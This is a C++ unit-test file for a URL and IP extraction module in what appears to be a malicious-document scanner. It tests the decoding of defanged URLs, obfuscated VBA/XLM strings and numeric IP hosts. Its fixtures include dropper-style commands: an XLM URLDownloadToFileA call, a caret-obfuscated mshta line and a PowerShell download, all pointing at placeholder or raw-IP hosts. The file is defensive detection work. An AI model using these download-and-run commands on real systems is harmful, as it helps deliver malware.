// URL/IP extraction and normalisation: de-obfuscation of the tricks
// droppers use and numeric hosts in every inet_aton spelling.
#include <gtest/gtest.h>

#include "formats/url/extract.h"

using namespace emogate;

namespace {

std::vector<std::string> urls(std::string_view t) { return extract_urls(t).urls; }

TEST(UrlExtract, PlainUrlsInText) {
  EXPECT_EQ(urls("see https://Example.COM/a/b?c=1#frag, or (http://x.example/p). Done."),
            (std::vector<std::string>{"https://example.com/a/b?c=1", "http://x.example/p"}));
  EXPECT_EQ(urls("<a href=\"http://a.example\">x</a> 'ftp://files.example/f.zip'"),
            (std::vector<std::string>{"http://a.example/", "ftp://files.example/f.zip"}));
}

TEST(UrlExtract, SkipsXmlSchemaIdentifiers) {
  const char* rels =
      "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
      "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
      "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
      "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' "
      "xsi:schemaLocation=\"http://www.w3.org/x\">";
  EXPECT_EQ(urls(rels), (std::vector<std::string>{"http://evil.example/t.dotm"}));
}

TEST(UrlExtract, Defanged) {
  EXPECT_EQ(urls("hxxp://evil[.]example(.)com/x and hXXps://b[.]example/"),
            (std::vector<std::string>{"http://evil.example.com/x", "https://b.example/"}));
  EXPECT_EQ(urls("hxxp[:]//c[dot]example/z"), (std::vector<std::string>{"http://c.example/z"}));
}

TEST(UrlExtract, VbaAndXlmJoinedStrings) {
  EXPECT_EQ(urls("u = \"ht\" & \"tp://ev\" + \"il.example/pa\" & _\r\n    \"th/\""),
            (std::vector<std::string>{"http://evil.example/path/"}));
  EXPECT_EQ(urls("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"h\"&\"ttps://x.example/a\",\"..\\e.ocx\")"),
            (std::vector<std::string>{"https://x.example/a"}));
  EXPECT_EQ(urls("$u='htt'+'p://p.example/q'"), (std::vector<std::string>{"http://p.example/q"}));
}

TEST(UrlExtract, CaretObfuscation) {
  EXPECT_EQ(urls("cmd /c m^sh^t^a h^tt^p^:/^/0xc12a24f5/cc.html"),
            (std::vector<std::string>{"http://193.42.36.245/cc.html"}));
}

TEST(UrlExtract, Utf16LittleEndianText) {
  std::string wide;
  for (char c : std::string("-c iwr http://a.example/x/ -OutFile")) {
    wide += c;
    wide += '\0';
  }
  EXPECT_EQ(urls(std::string("\x4c\0\0\0\x01\x14", 6) + wide + std::string("\xff\0a\0", 4)),
            (std::vector<std::string>{"http://a.example/x/"}));
  EXPECT_EQ(collapse_utf16le(std::string("a\0b\0c\0", 6)), std::string("a\0b\0c\0", 6));  // too short
}

TEST(UrlExtract, NumericHosts) {
  EXPECT_EQ(numeric_host_to_ipv4("0xb907d607"), "185.7.214.7");
  EXPECT_EQ(numeric_host_to_ipv4("3104298503"), "185.7.214.7");
  EXPECT_EQ(numeric_host_to_ipv4("0271.07.0326.07"), "185.7.214.7");
  EXPECT_EQ(numeric_host_to_ipv4("0056.0151.0121.0114"), "46.105.81.76");
  EXPECT_EQ(numeric_host_to_ipv4("0xb9.0x7.54791"), "185.7.214.7");
  EXPECT_EQ(numeric_host_to_ipv4("127.1"), "127.0.0.1");
  EXPECT_EQ(numeric_host_to_ipv4("10.0.0.1"), "10.0.0.1");
  EXPECT_FALSE(numeric_host_to_ipv4("256.1.1.1"));
  EXPECT_FALSE(numeric_host_to_ipv4("1.2.3.4.5"));
  EXPECT_FALSE(numeric_host_to_ipv4("08.1.1.1"));  // 8 is not octal
  EXPECT_FALSE(numeric_host_to_ipv4("0x1ffffffff"));
  EXPECT_FALSE(numeric_host_to_ipv4("123.example"));
  EXPECT_FALSE(numeric_host_to_ipv4(""));
  EXPECT_FALSE(numeric_host_to_ipv4("1..2"));
  EXPECT_EQ(urls("http://0xb907d607/fer/fer.html"), (std::vector<std::string>{"http://185.7.214.7/fer/fer.html"}));
}

TEST(UrlExtract, NormalizeUrl) {
  EXPECT_EQ(normalize_url("HTTP://user:pw@Host.Example.:80/a"), "http://host.example/a");
  EXPECT_EQ(normalize_url("https://h.example:8443"), "https://h.example:8443/");
  EXPECT_EQ(normalize_url("https://h.example?q=1"), "https://h.example/?q=1");
  EXPECT_EQ(normalize_url("http://[2001:DB8::1]:8080/x"), "http://[2001:db8::1]:8080/x");
  EXPECT_FALSE(normalize_url("javascript://x"));
  EXPECT_FALSE(normalize_url("http:///nohost"));
  EXPECT_FALSE(normalize_url("http://bad host/"));
  EXPECT_FALSE(normalize_url("http://h.example:8x/"));
  EXPECT_EQ(url_host("http://185.7.214.7:8080/x"), "185.7.214.7");
}

TEST(UrlExtract, IpsFromUrlsAndBareAddresses) {
  auto r = extract_urls("C2 at 51.75.33.127:443 and http://0xb907d607/x; version 1.2.3.4.5 is not an IP; 999.1.1.1 neither");
  EXPECT_EQ(r.ips, (std::vector<std::string>{"185.7.214.7", "51.75.33.127"}));
}

TEST(UrlExtract, BoundedAndDeduplicated) {
  std::string many;
  for (int i = 0; i < 3000; ++i) many += "http://h" + std::to_string(i % 1500) + ".example/ ";
  auto r = extract_urls(many, 1000);
  EXPECT_EQ(r.urls.size(), 1000u);
  EXPECT_EQ(extract_urls(many, 5000).urls.size(), 1500u);
  std::string long_url = "http://x.example/" + std::string(100000, 'a');
  auto l = extract_urls(long_url);
  ASSERT_EQ(l.urls.size(), 1u);
  EXPECT_LE(l.urls[0].size(), 4096u);
}

TEST(UrlExtract, HostileBytesDoNotBreakIt) {
  std::string junk;
  for (int i = 0; i < 4096; ++i) junk += static_cast<char>((i * 131) & 255);
  junk += "://" + std::string("\"&\"") + "://[::" + "http://" + "\"";
  EXPECT_NO_THROW(extract_urls(junk));
  EXPECT_LE(deobfuscate_text(junk).size(), junk.size());
}

}  // namespace
